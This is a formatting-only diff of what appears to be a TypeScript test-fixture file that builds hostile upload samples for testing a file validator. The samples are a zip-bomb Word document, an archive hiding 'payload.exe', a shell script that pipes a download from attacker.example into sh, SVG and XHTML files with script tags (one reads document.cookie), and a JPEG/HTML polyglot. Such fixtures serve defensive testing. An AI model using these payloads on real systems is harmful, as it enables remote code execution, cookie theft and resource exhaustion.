@@ -83,7 +83,8 @@ export function zipArchive(entries: readonly ZipEntry[]): Buffer {
 }
 
 /** A real Word document's list of content types: what makes a ZIP archive read as Word. */
-const contentTypes = (): ZipEntry => deflatedEntry('[Content_Types].xml', Buffer.from(unzipSync(docxFile())['[Content_Types].xml']!));
+const contentTypes = (): ZipEntry =>
+  deflatedEntry('[Content_Types].xml', Buffer.from(unzipSync(docxFile())['[Content_Types].xml']!));
 
 /** A Word document whose text inflates to a gigabyte of zeros, in about 1 MB. */
 export const zipBombDocx = (): Buffer => zipArchive([contentTypes(), zerosEntry('word/document.xml', 1024)]);
@@ -97,10 +98,13 @@ export const truncatedDocx = (): Buffer => docxFile().subarray(0, 400);
 /** A plain archive, not a document, under a document's name. */
 export const plainZip = (): Buffer => zipArchive([deflatedEntry('payload.exe', exeFile())]);
 
-export const elfFile = (): Buffer => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(248)]);
+export const elfFile = (): Buffer =>
+  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(248)]);
 export const shellScript = (): Buffer => Buffer.from('#!/bin/sh\ncurl https://attacker.example/x | sh\n');
 export const svgWithScript = (): Buffer =>
-  Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>');
+  Buffer.from(
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>',
+  );
 export const xhtmlFile = (): Buffer =>
   Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>');
 export const gifFile = (): Buffer => Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
@@ -125,7 +129,11 @@ export const jpegHtmlPolyglot = (): Buffer => {
   segment.writeUInt16BE(0xfffe, 0);
   segment.writeUInt16BE(comment.length + 2, 2);
   // Start of image, the comment, then a minimal (if unviewable) rest of an image.
-  const rest = Buffer.concat([Buffer.from([0xff, 0xdb, 0x00, 0x43, 0x00]), Buffer.alloc(64, 1), Buffer.from([0xff, 0xd9])]);
+  const rest = Buffer.concat([
+    Buffer.from([0xff, 0xdb, 0x00, 0x43, 0x00]),
+    Buffer.alloc(64, 1),
+    Buffer.from([0xff, 0xd9]),
+  ]);
   return Buffer.concat([Buffer.from([0xff, 0xd8]), segment, comment, rest]);
 };
 
